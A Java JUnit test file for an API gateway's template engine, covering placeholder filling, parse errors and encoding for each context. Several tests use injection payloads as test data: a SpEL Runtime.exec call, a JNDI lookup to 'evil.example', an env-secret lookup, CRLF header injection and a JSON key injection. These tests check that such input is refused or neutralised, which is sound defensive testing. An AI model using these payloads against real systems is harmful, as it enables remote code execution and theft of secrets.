package dev.gatehouse.api.template;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;
import static org.assertj.core.api.Assertions.catchThrowableOfType;

import dev.gatehouse.api.template.Template.Use;
import java.util.List;
import java.util.Map;
import java.util.Set;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.EnumSource;
import org.junit.jupiter.params.provider.ValueSource;

class TemplateTest {
    @Test
    void names_are_replaced_and_the_rest_stands() {
        assertThat(fill("/v2/{id}?lang={query.lang}", Map.of("id", "42", "query.lang", "it")))
                .isEqualTo("/v2/42?lang=it");
    }

    @Test
    void doubled_braces_are_braces() {
        assertThat(fill("{{\"id\": {id}}}", Map.of("id", "42"))).isEqualTo("{\"id\": 42}");
        assertThat(fill("{{id}}", Map.of("id", "42"))).isEqualTo("{id}");
    }

    @Test
    void a_missing_value_is_empty() {
        assertThat(fill("a{id}b{header.x}c", Map.of())).isEqualTo("abc");
    }

    @Test
    void a_dotted_name_is_a_fact_and_its_first_dot_ends_the_group() {
        var place = (TemplatePart.Place)
                Template.parse("{jwt.https://example.com/roles[0]}").parts().getFirst();
        assertThat(place.reference()).isEqualTo(Reference.fact("jwt", "https://example.com/roles[0]"));
        assertThat(place.reference().isParameter()).isFalse();
    }

    @Test
    void the_name_of_a_header_has_no_case() {
        assertThat(fill("{header.X-Tenant}", Map.of("header.x-tenant", "acme"))).isEqualTo("acme");
    }

    @Test
    void knows_whether_it_depends_on_the_request() {
        assertThat(Template.parse("a {{b}}").isConstant()).isTrue();
        assertThat(Template.parse("a {b}").isConstant()).isFalse();
    }

    // What is not a template

    @ParameterizedTest
    @CsvSource(
            delimiter = '|',
            quoteCharacter = '`',
            value = {
                "a{b            | 1 | '{' is not closed; write '{{' for a brace",
                "a}b            | 1 | '}' closes nothing here; write '}}' for a brace",
                "ab{}           | 3 | '{}' names no value",
                "{.x}           | 1 | '.x' is not the name of a value",
                "{query.}       | 1 | 'query.' is not the name of a value",
                "{ id }         | 1 | ' id ' is not the name of a value",
                "{1st}          | 1 | '1st' is not the name of a value",
                "{a{b}}         | 1 | 'a{b' is not the name of a value",
            })
    void a_mistake_is_refused_with_its_place_and_a_sentence(String text, int offset, String sentence) {
        TemplateException e = catchThrowableOfType(TemplateException.class, () -> Template.parse(text));
        assertThat(e.offset()).isEqualTo(offset);
        assertThat(e).hasMessageStartingWith(sentence);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "#{T(java.lang.Runtime).getRuntime().exec('id')}",
                "${jndi:ldap://evil.example/a}",
                "${7*7}",
                "{query.x|upper}",
                "{a ? b : c}",
                "{id()}",
            })
    void nothing_but_a_name_can_stand_between_braces(String text) {
        assertThatThrownBy(() -> Template.parse(text)).isInstanceOf(TemplateException.class);
    }

    // What can never be filled

    @Test
    void a_parameter_the_path_does_not_have_is_found_with_those_it_has() {
        assertThat(Template.parse("/v2/{userid}").check(Set.of("userId", "rest")))
                .containsExactly(new TemplateProblem(
                        5, 6, "userid", "the path has no parameter {userid}", List.of("rest", "userId")));
    }

    @Test
    void a_fact_that_does_not_exist_is_found_with_those_that_do() {
        assertThat(Template.parse("{client.adress} {request.url}").check(Set.of()))
                .containsExactly(
                        new TemplateProblem(
                                1,
                                13,
                                "client.adress",
                                "there is no {client.adress}",
                                List.of(
                                        "client.certificate.fingerprint",
                                        "client.certificate.issuer",
                                        "client.certificate.serial",
                                        "client.certificate.subject",
                                        "client.ip",
                                        "client.tls.protocol",
                                        "client.tls.server_name")),
                        new TemplateProblem(
                                17,
                                11,
                                "request.url",
                                "there is no {request.url}",
                                List.of(
                                        "request.host",
                                        "request.id",
                                        "request.method",
                                        "request.path",
                                        "request.scheme")));
    }

    @Test
    void a_misspelt_group_is_found_with_the_groups_there_are() {
        TemplateProblem problem =
                Template.parse("{hedaer.x-a}").check(Set.of(), Set.of("user")).getFirst();
        assertThat(problem.message())
                .isEqualTo("{hedaer.x-a} is not known; a dotted name begins with one of"
                        + " client, consumer, cookie, header, jwt, query, request, user");
        assertThat(problem.known()).contains("header.x-a", "jwt.x-a", "user.x-a");
    }

    @Test
    void what_can_be_filled_is_no_problem() {
        assertThat(Template.parse(
                                "{id} {query.a} {header.b} {cookie.c} {client.ip} {request.host} {jwt.sub} {consumer.plan} {user.x}")
                        .check(Set.of("id"), Set.of("user")))
                .isEmpty();
    }

    // What is inserted

    @ParameterizedTest
    @CsvSource(
            delimiter = '|',
            quoteCharacter = '`',
            value = {
                "PATH      | a/b?c#d%e f   | a%2Fb%3Fc%23d%25e%20f",
                "PATH      | a;b=c+d@e     | a;b=c+d@e",
                "PATH_REST | a/b?c         | a/b%3Fc",
                "QUERY     | a&b=c;d+e f/% | a%26b%3Dc%3Bd%2Be%20f%2F%25",
                "QUERY     | é€😀           | %C3%A9%E2%82%AC%F0%9F%98%80",
                "JSON      | a\"b\\c       | a\\\"b\\\\c",
                "MARKUP    | <a b='c'>&\"  | &lt;a b=&#39;c&#39;&gt;&amp;&quot;",
                "PLAIN     | <a> \"b\"     | <a> \"b\"",
            })
    void a_value_is_encoded_for_where_it_goes(Use use, String value, String expected) {
        assertThat(Template.parse("[{x}]").fill(reference -> value, use)).isEqualTo("[" + expected + "]");
    }

    @ParameterizedTest
    @EnumSource(
            value = Use.class,
            names = {"PATH", "PATH_REST", "QUERY", "HEADER", "JSON"})
    void a_line_end_in_a_value_ends_no_line(Use use) {
        String out = Template.parse("{x}").fill(reference -> "a\r\nSet-Cookie: b=c\0", use);
        assertThat(out).doesNotContain("\r", "\n", "\0");
    }

    @Test
    void a_header_carries_other_letters_as_octets_of_utf_8() {
        assertThat(Template.parse("ü{x}").fill(reference -> "é\r\n", Use.HEADER))
                .isEqualTo("\u00c3\u00bc\u00c3\u00a9  ");
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "#{T(java.lang.Runtime).getRuntime().exec('id')}",
                "${jndi:ldap://evil.example/a}",
                "${env:SECRET}",
                "{client.ip}",
                "{{client.ip}}",
                "}}{{",
            })
    void a_value_that_looks_like_a_template_stays_what_it_is(String value) {
        Facts facts = reference -> reference.group().equals("client") ? "10.0.0.1" : value;
        assertThat(Template.parse("{header.x}/{header.y}").fill(facts, Use.PLAIN))
                .isEqualTo(value + "/" + value);
    }

    @Test
    void in_json_only_the_texts_are_templates() {
        Template template = Template.parseJson("{\"a\":{\"b\":[{}]},\"say \\\"{{x}}\\\"\":\"{query.q}\"}");
        assertThat(template.fill(reference -> "\",\"admin\":\"", Use.JSON))
                .isEqualTo("{\"a\":{\"b\":[{}]},\"say \\\"{x}\\\"\":\"\\\",\\\"admin\\\":\\\"\"}");
    }

    private static String fill(String template, Map<String, String> values) {
        return Template.parse(template).fill(reference -> values.get(reference.toString()), Use.PLAIN);
    }
}
